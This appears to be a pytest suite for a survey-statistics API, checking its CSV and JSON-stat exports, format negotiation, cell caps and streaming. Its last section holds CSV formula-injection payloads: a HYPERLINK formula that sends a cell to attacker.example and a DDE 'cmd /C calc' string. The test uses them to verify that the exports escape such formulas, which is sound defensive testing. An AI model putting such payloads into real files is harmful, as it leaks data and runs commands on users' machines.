"""CSV and JSON-stat, read back by independent readers, against the seeded figures.

CSV is read with the csv module and with pandas; JSON-stat with pyjstat and by working
out cell indexes from the format's definition (tests.datafile_helpers.cells).
"""

import csv
import datetime as dt
import io
import math
import shutil

import pandas
import pytest
from pyjstat import pyjstat

from api.cli import main
from seed.loader import DATA
from seed.synthetic import Sizes
from tests.conftest import count_queries, generate_into
from tests.datafile_helpers import (
    app_for,
    cells,
    client_for,
    client_of,
    seeded_shares,
    seeded_source_dates,
)

pytestmark = [
    pytest.mark.anyio,
    # pyjstat's own Dataset.write calls a function of its own that it marks deprecated.
    pytest.mark.filterwarnings("ignore:Shouldn't use this function anymore:DeprecationWarning"),
]

CSV_TYPE = "text/csv; charset=utf-8"
SHARE_HEADER = [
    "survey", "wave", "question", "question_text", "option", "option_label", "segment",
    "segment_label", "value", "base_n", "status", "note", "source", "source_published",
    "locator",
]  # fmt: skip


def read_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == SHARE_HEADER
    return list(reader)


def read_jsonstat(text: str) -> pandas.DataFrame:
    frame: pandas.DataFrame = pyjstat.Dataset.read(text).write("dataframe", naming="id")
    return frame


# CSV ----------------------------------------------------------------------------------


async def test_shares_csv_holds_every_seeded_share_as_written_in_the_seed(client):
    response = await client.get("/api/v1/shares", params={"format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == CSV_TYPE
    rows = read_csv(response.content.decode("utf-8"))
    got = {
        (row["wave"], row["question"], row["option"], row["segment"]): (
            row["value"],
            row["base_n"],
            row["status"],
            row["source"],
            row["source_published"],
        )
        for row in rows
    }
    dates = seeded_source_dates()
    expected = {
        key: (share.value, share.base_n, share.status, share.source, dates[share.source])
        for key, share in seeded_shares().items()
    }
    assert len(rows) == len(expected) == 33
    assert got == expected


async def test_shares_csv_reads_back_with_pandas(client):
    response = await client.get("/api/v1/shares", params={"format": "csv", "lang": "en"})
    frame = pandas.read_csv(io.BytesIO(response.content), encoding="utf-8")
    assert list(frame.columns) == SHARE_HEADER
    assert frame["value"].dtype == "float64"
    seeded = seeded_shares()
    assert len(frame) == len(seeded)
    for row in frame.to_dict("records"):
        share = seeded[(str(row["wave"]), row["question"], row["option"], row["segment"])]
        if share.value:
            assert row["value"] == float(share.value)
        else:
            assert math.isnan(row["value"])
        assert row["status"] == share.status
    planning = frame[frame["question"] == "service-area-planning"]
    assert set(planning["base_n"]) == {113}


async def test_csv_has_crlf_line_ends_and_no_byte_order_mark(client):
    response = await client.get("/api/v1/shares", params={"format": "csv"})
    body = response.content
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.endswith(b"\r\n")
    assert b"\n" not in body.replace(b"\r\n", b"")
    assert body.count(b"\r\n") == 1 + 33


async def test_csv_labels_and_texts_follow_lang(client):
    params = {"format": "csv", "question": "expected-effects", "wave": "2015", "lang": "en"}
    response = await client.get("/api/v1/shares", params=params)
    assert response.headers["content-language"] == "en"
    row = next(row for row in read_csv(response.text) if row["option"] == "better-quality")
    assert row["option_label"] == "Better service quality"
    assert row["segment_label"] == "All responding municipalities"
    assert row["question_text"].startswith("In which areas does the municipality expect")
    assert row["value"] == "24"


async def test_csv_missing_value_is_an_empty_cell_with_its_status(client):
    params = {"format": "csv", "status": "qualitative,not_published", "lang": "en"}
    rows = read_csv((await client.get("/api/v1/shares", params=params)).text)
    assert {(row["question"], row["option"], row["status"]) for row in rows} >= {
        ("priority", "high-or-very-high", "qualitative"),
        ("expected-effects", "faster-processing", "not_published"),
    }
    assert all(row["value"] == "" for row in rows)
    quoted = next(row for row in rows if row["question"] == "priority")
    assert quoted["note"] == (
        "Described as stable at well over 50 percent. 50 is a lower bound and not a figure."
    )


async def test_question_csv_is_one_row_per_share_of_the_question(client):
    response = await client.get("/api/v1/questions/expected-effects", params={"format": "csv"})
    assert response.status_code == 200
    rows = read_csv(response.text)
    expected = {key for key in seeded_shares() if key[1] == "expected-effects"}
    assert {(r["wave"], r["question"], r["option"], r["segment"]) for r in rows} == expected


async def test_indicator_csv_is_the_series_with_published_total(client):
    response = await client.get(
        "/api/v1/indicators/ict-contributed-quality", params={"format": "csv"}
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [(r["wave"], r["value"], r["status"]) for r in rows] == [
        ("2015", "94.7", "derived"),  # 38.9 + 42.5 + 13.3, as in seed/data/shares.csv
        ("2016", "", "no_source"),
        ("2017", "", "no_source"),
    ]
    first = rows[0]
    assert (first["rule"], first["parts"]) == ("sum", "moderate=38.9;high=42.5;very-high=13.3")
    assert (first["base_n"], first["sources"]) == ("113", "e15")
    # The total a source printed travels with its own source, not with the parts'.
    assert (first["published_total"], first["published_total_source"]) == ("95", "cw15")
    assert first["options"] == "moderate+high+very-high"


# JSON-stat ----------------------------------------------------------------------------


async def test_shares_jsonstat_reads_back_with_pyjstat_to_the_seeded_numbers(client):
    response = await client.get("/api/v1/shares", params={"format": "jsonstat"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    frame = read_jsonstat(response.text)
    assert list(frame.columns) == ["wave", "question", "option", "segment", "value"]
    known = frame[frame["value"].notna()]
    got = {
        (row.wave, row.question, row.option, row.segment): row.value
        for row in known.itertuples(index=False)
    }
    expected = {key: float(share.value) for key, share in seeded_shares().items() if share.value}
    assert got == expected


async def test_jsonstat_statuses_and_bases_survive(client):
    dataset = (await client.get("/api/v1/shares", params={"format": "jsonstat"})).json()
    index = cells(dataset)
    seeded = seeded_shares()
    statuses = {
        str(index[key]): share.status
        for key, share in seeded.items()
        if share.status != "published"
    }
    seeded_at = {str(index[key]) for key in seeded}
    assert {at: s for at, s in dataset["status"].items() if at in seeded_at} == statuses
    bases = {str(index[key]): int(share.base_n) for key, share in seeded.items() if share.base_n}
    assert dataset["extension"]["base_n"] == bases
    sources = {str(index[key]): share.source for key, share in seeded.items()}
    assert dataset["extension"]["source"] == sources
    dates = seeded_source_dates()
    published = {
        str(index[key]): dates[share.source] for key, share in seeded.items() if dates[share.source]
    }
    assert dataset["extension"]["source_published"] == published
    # The undated 2015 sources have none; pr17 is dated to the day, kr18 to the month.
    assert set(published.values()) == {"2018-01-24", "2018-01"}
    for key, share in seeded.items():
        assert dataset["value"][index[key]] == (float(share.value) if share.value else None)
    # A cell of a real question and option that no source reports is `no_source`; a cell
    # pairing a question with another question's option is no combination at all.
    pairs = {(question, option) for _, question, option, _ in seeded}
    for key, at in index.items():
        if key in seeded:
            continue
        assert dataset["value"][at] is None
        expected = "no_source" if (key[1], key[2]) in pairs else None
        assert dataset["status"].get(str(at)) == expected, key


async def test_jsonstat_dataset_essentials(client):
    dataset = (await client.get("/api/v1/shares", params={"format": "jsonstat"})).json()
    release = (await client.get("/health")).json()["release"]
    assert (dataset["version"], dataset["class"]) == ("2.0", "dataset")
    assert dataset["role"] == {"time": ["wave"]}
    assert dataset["dimension"]["wave"]["category"]["index"] == ["2015", "2016", "2017"]
    updated = dt.datetime.fromisoformat(dataset["updated"])
    assert updated == dt.datetime.fromisoformat(release["created_at"]).replace(tzinfo=dt.UTC)
    assert dataset["link"] == {
        "describedby": [{"href": "http://testserver/docs", "type": "text/html"}]
    }
    assert "EVRY: Kommuneundersøkelsen 2017" in dataset["source"]
    assert "Computerworld Norge: Fortsatt mye papir i kommunene" in dataset["source"]


async def test_jsonstat_links_the_licence_when_one_is_set(database_url):
    licence = "https://example.org/licence"
    async with client_for(database_url, licence=licence) as client:
        url = "/api/v1/indicators/action-plan"
        dataset = (await client.get(url, params={"format": "jsonstat"})).json()
    assert dataset["link"]["license"] == [{"href": licence}]


async def test_question_jsonstat_has_every_wave_option_and_segment(client):
    params = {"format": "jsonstat", "lang": "en"}
    response = await client.get("/api/v1/questions/expected-effects", params=params)
    dataset = response.json()
    assert dataset["size"] == [3, 1, 3, 1]
    options = dataset["dimension"]["option"]["category"]
    assert options["index"] == ["simpler-routines", "faster-processing", "better-quality"]
    assert options["label"]["better-quality"] == "Better service quality"
    frame = read_jsonstat(response.text)
    values = {(r["wave"], r["option"]): r["value"] for r in frame.to_dict("records")}
    assert values[("2015", "simpler-routines")] == 23.0
    assert values[("2017", "better-quality")] == 64.0
    assert math.isnan(values[("2016", "better-quality")])
    index = cells(dataset)
    no_source = index[("2016", "expected-effects", "better-quality", "all")]
    assert dataset["status"][str(no_source)] == "no_source"
    unpublished = index[("2017", "expected-effects", "faster-processing", "all")]
    assert dataset["status"][str(unpublished)] == "not_published"


async def test_question_jsonstat_keeps_an_approximate_value_and_says_so(client):
    response = await client.get(
        "/api/v1/questions/service-area-planning", params={"format": "jsonstat", "wave": "2015"}
    )
    dataset = response.json()
    at = cells(dataset)[("2015", "service-area-planning", "all-digital", "all")]
    assert (dataset["value"][at], dataset["status"][str(at)]) == (10.0, "approximate")
    assert dataset["extension"]["note"][str(at)] == "Kilden sier «nær 10 prosent»."


async def test_indicator_jsonstat_is_one_cell_per_wave(client):
    url = "/api/v1/indicators/expected-better-quality"
    response = await client.get(url, params={"format": "jsonstat"})
    dataset = response.json()
    assert dataset["size"] == [3, 1, 1, 1]
    assert dataset["value"] == [24.0, None, 64.0]
    assert dataset["status"] == {"1": "no_source"}
    assert dataset["label"] == "Forventer bedre tjenestekvalitet"
    frame = read_jsonstat(response.text)
    assert list(frame["option"]) == ["better-quality"] * 3
    summed = (await client.get("/api/v1/indicators/ict-contributed-quality?format=jsonstat")).json()
    assert summed["value"][0] == 94.7
    assert summed["dimension"]["option"]["category"]["index"] == ["moderate+high+very-high"]
    assert summed["status"]["0"] == "derived"
    assert summed["extension"]["published_total"] == {"0": {"value": 95.0, "source": "cw15"}}
    assert summed["extension"]["derived"]["0"]["rule"] == "sum"
    assert [part["option"] for part in summed["extension"]["derived"]["0"]["parts"]] == [
        "moderate",
        "high",
        "very-high",
    ]


# Negotiation and file names --------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "accept", "expected"),
    [
        ({}, None, "application/json"),
        ({}, "text/csv", CSV_TYPE),
        ({}, "application/json", "application/json"),
        ({}, "text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
        ({}, "text/csv;q=0.5, application/json", "application/json"),
        ({}, "application/json;q=0.1, text/csv", CSV_TYPE),
        ({"format": "csv"}, "application/json", CSV_TYPE),
        ({"format": "json"}, "text/csv", "application/json"),
        ({"format": "CSV"}, None, CSV_TYPE),
    ],
)
async def test_shares_format_by_parameter_then_accept(client, params, accept, expected):
    headers = {"Accept": accept} if accept else {}
    response = await client.get("/api/v1/shares", params=params, headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"] == expected


@pytest.mark.parametrize("name", ["jsonstat", "json-stat", "json-stat2"])
async def test_jsonstat_is_asked_for_by_name(client, name):
    response = await client.get("/api/v1/shares", params={"format": name})
    assert response.status_code == 200
    assert response.json()["class"] == "dataset"


async def test_json_keeps_its_pages_and_has_no_attachment(client):
    response = await client.get("/api/v1/shares", params={"limit": "2"})
    assert len(response.json()["data"]) == 2
    assert "content-disposition" not in response.headers


@pytest.mark.parametrize(
    ("url", "filename"),
    [
        ("/api/v1/shares?format=csv", "kommunedigi-shares.csv"),
        (
            "/api/v1/shares?format=csv&survey=kommuneundersokelsen",
            "kommuneundersokelsen-shares.csv",
        ),
        ("/api/v1/shares?format=jsonstat&wave=2017", "kommunedigi-shares.jsonstat.json"),
        ("/api/v1/questions/action-plan?format=csv", "action-plan.csv"),
        ("/api/v1/questions/action-plan?format=jsonstat", "action-plan.jsonstat.json"),
        ("/api/v1/indicators/expected-better-quality?format=csv", "expected-better-quality.csv"),
        (
            "/api/v1/indicators/expected-better-quality?format=jsonstat",
            "expected-better-quality.jsonstat.json",
        ),
        ("/api/v1/surveys/kommuneundersokelsen/data", "kommuneundersokelsen-shares.csv"),
        (
            "/api/v1/surveys/kommuneundersokelsen/data?format=jsonstat",
            "kommuneundersokelsen-shares.jsonstat.json",
        ),
        ("/api/v1/questions/action-plan/data", "action-plan.jsonstat.json"),
        ("/api/v1/questions/action-plan/data?outputFormat=csv", "action-plan.csv"),
    ],
)
async def test_files_are_attachments_with_a_name(client, url, filename):
    response = await client.get(url)
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="{filename}"'


@pytest.mark.parametrize(
    ("accept", "format", "expected"),
    [
        (None, None, CSV_TYPE),
        ("application/json", None, CSV_TYPE),  # JSON is not offered: the default answers
        (None, "jsonstat", "application/json"),
    ],
)
async def test_survey_download_is_csv_unless_jsonstat_is_named(client, accept, format, expected):
    headers = {"Accept": accept} if accept else {}
    params = {"format": format} if format else {}
    url = "/api/v1/surveys/kommuneundersokelsen/data"
    response = await client.get(url, params=params, headers=headers)
    assert response.headers["content-type"] == expected


async def test_survey_download_csv_is_every_share_of_the_survey(client):
    response = await client.get("/api/v1/surveys/kommuneundersokelsen/data")
    rows = read_csv(response.text)
    assert {(r["wave"], r["question"], r["option"], r["segment"]) for r in rows} == set(
        seeded_shares()
    )


@pytest.mark.parametrize(
    ("url", "parameter"),
    [
        ("/api/v1/shares?format=px", "format"),
        ("/api/v1/shares?format=csv&format=json", "format"),
        ("/api/v1/shares?format=csv&limit=10", "limit"),
        ("/api/v1/shares?format=jsonstat&cursor=s1.MQ", "cursor"),
        ("/api/v1/questions/action-plan?format=ttl", "format"),
        ("/api/v1/surveys/kommuneundersokelsen/data?format=json", "format"),
        ("/api/v1/surveys/kommuneundersokelsen/data?limit=5", "limit"),
    ],
)
async def test_a_wrong_format_request_is_a_400_naming_the_parameter(client, url, parameter):
    response = await client.get(url)
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["errors"][0]["parameter"] == parameter


async def test_unknown_survey_download_is_404(client):
    response = await client.get("/api/v1/surveys/nothing/data")
    assert response.status_code == 404
    assert response.json()["type"] == "/problems/not-found"


# The cap: max_cells ------------------------------------------------------------------------


def assert_too_many_cells(response, cells, maximum):
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == "/problems/too-many-cells"
    assert problem["title"] == "Too many cells"
    assert (
        f"selects {cells} cells, more than this server's max_cells ({maximum})"
        in (problem["detail"])
    )


@pytest.mark.parametrize("format", ["csv", "jsonstat"])
async def test_shares_file_cap_at_max_cells_and_one_over(database_url, format):
    # expected-effects has 6 shares, in a table of 3 waves × 3 options (9 cells).
    params = {"format": format, "question": "expected-effects"}
    needed = 6 if format == "csv" else 9
    async with client_for(database_url, max_cells=needed) as client:
        assert (await client.get("/api/v1/shares", params=params)).status_code == 200
    async with client_for(database_url, max_cells=needed - 1) as client:
        response = await client.get("/api/v1/shares", params=params)
    assert_too_many_cells(response, needed, needed - 1)


async def test_shares_jsonstat_counts_the_cells_of_its_table_not_only_the_shares(database_url):
    # 33 shares, but 3 waves × 7 questions × 18 option codes × 1 segment = 378 cells.
    async with client_for(database_url, max_cells=377) as client:
        response = await client.get("/api/v1/shares", params={"format": "jsonstat"})
        assert (await client.get("/api/v1/shares?format=csv")).status_code == 200
    assert_too_many_cells(response, 378, 377)


@pytest.mark.parametrize("format", ["csv", "jsonstat"])
async def test_question_file_cap_at_max_cells_and_one_over(database_url, format):
    url = f"/api/v1/questions/expected-effects?format={format}"  # 3 × 3 × 1 cells
    async with client_for(database_url, max_cells=9) as client:
        assert (await client.get(url)).status_code == 200
    async with client_for(database_url, max_cells=8) as client:
        assert_too_many_cells(await client.get(url), 9, 8)


async def test_survey_csv_has_no_cap_but_its_jsonstat_has(database_url):
    url = "/api/v1/surveys/kommuneundersokelsen/data"
    async with client_for(database_url, max_cells=1) as client:
        csv_response = await client.get(url)
        jsonstat_response = await client.get(url, params={"format": "jsonstat"})
    assert csv_response.status_code == 200
    assert len(read_csv(csv_response.text)) == 33
    assert_too_many_cells(jsonstat_response, 33, 1)


# Streaming: a survey's CSV is read page by page ---------------------------------------------


async def test_survey_csv_streams_page_by_page_with_every_share_once(fresh_database_url):
    sizes = Sizes(waves=2, questions=3, options=4, segments=5)  # 120 shares
    settings = {"default_page_size": 7, "max_page_size": 7, "max_cells": 10}
    generate_into(fresh_database_url, sizes)
    with app_for(fresh_database_url, **settings) as app:
        async with client_of(app) as client:
            with count_queries(app.state.engine) as statements:
                response = await client.get("/api/v1/surveys/synthetic/data")
            pages = [s for s in statements if "FROM share" in s and "LIMIT" in s]
            shown = []
            url: str | None = "/api/v1/shares?survey=synthetic&limit=7"
            while url:
                page = (await client.get(url)).json()
                shown.extend(page["data"])
                url = page["next"]
    assert response.status_code == 200
    rows = read_csv(response.text)
    assert len(pages) == math.ceil(sizes.shares / 7)
    assert len(rows) == sizes.shares
    assert len({(r["wave"], r["question"], r["option"], r["segment"]) for r in rows}) == 120
    # The same figures, in the same order, as the paged JSON (the numbers come from the
    # generator, so they are compared with the database's other face, not with a file).
    assert [(r["wave"], r["question"], r["option"], r["segment"], r["value"]) for r in rows] == [
        (str(s["wave"]), s["question"], s["option"], s["segment"], f"{s['value']:g}") for s in shown
    ]


# Formula injection: text a spreadsheet would run is written as text --------------------------

FORMULAS = {
    "locator": '=HYPERLINK("http://attacker.example/?"&A1,"source")',
    "note_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "option_label": "+1+2",
    "title_en": "-2+3",
}


def _csv_cells(*cells):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue()


def _package_with_formulas(folder):
    """The seed, with text that starts formulas in a share's locator and note, an option's
    label and an indicator's title (the data steward's files are not trusted to be inert),
    and the 2017 action-plan share lowered from 76 to 60, so that its change is negative."""
    shutil.copytree(DATA, folder)
    replacements = {
        "shares.csv": (
            "76,,published,pr17,Section on automation: the same share in 2017.,,,"
            "Avsnittet om automatisering: den samme andelen i 2017.",
            "60,,published,pr17,"
            + _csv_cells(FORMULAS["locator"], "", FORMULAS["note_en"], FORMULAS["locator"]),
        ),
        "options.csv": ('"Yes, mentioned in the action plan"', FORMULAS["option_label"]),
        "indicators.csv": ("Say the action plan mentions digitalisation", FORMULAS["title_en"]),
    }
    for name, (old, new) in replacements.items():
        text = (folder / name).read_text(encoding="utf-8")
        assert old in text, (name, old)
        (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")
    return folder


async def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
    fresh_database_url, tmp_path
):
    package = _package_with_formulas(tmp_path / "package")
    assert main(["import", str(package), "--database-url", fresh_database_url]) == 0
    async with client_for(fresh_database_url) as client:
        params = {"format": "csv", "question": "action-plan", "wave": "2017", "lang": "en"}
        shares = read_csv((await client.get("/api/v1/shares", params=params)).text)
        survey = read_csv((await client.get("/api/v1/surveys/kommuneundersokelsen/data")).text)
        series = await client.get("/api/v1/indicators/action-plan?format=csv&lang=en")
        as_json = (await client.get("/api/v1/shares", params=params | {"format": "json"})).json()
    (share,) = shares
    assert share["locator"] == "'" + FORMULAS["locator"]
    assert share["note"] == "'" + FORMULAS["note_en"]
    assert share["option_label"] == "'" + FORMULAS["option_label"]
    assert share["value"] == "60"
    streamed = next(r for r in survey if (r["wave"], r["question"]) == ("2017", "action-plan"))
    assert streamed["locator"] == "'" + FORMULAS["locator"]
    points = list(csv.DictReader(io.StringIO(series.text, newline="")))
    assert points[0]["indicator_title"] == "'" + FORMULAS["title_en"]
    assert points[-1]["change"] == "-8"  # a number, not a formula: left as it is
    # Only the CSV is changed: JSON carries the text as the steward wrote it.
    assert as_json["data"][0]["locator"] == FORMULAS["locator"]
